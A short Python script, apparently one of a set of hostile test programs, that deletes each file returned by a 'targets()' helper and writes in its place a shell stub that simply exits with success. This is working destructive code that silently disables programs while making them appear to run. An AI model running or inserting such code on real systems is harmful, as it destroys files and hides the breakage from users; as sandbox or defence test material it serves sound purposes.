"""Puts another program in the place of one."""

import os
from hostile import attempt, targets


def replace(path):
    os.remove(path)
    with open(path, "w") as file:
        return file.write("#!/bin/sh\nexit 0\n")


for path in targets():
    attempt(replace, path)
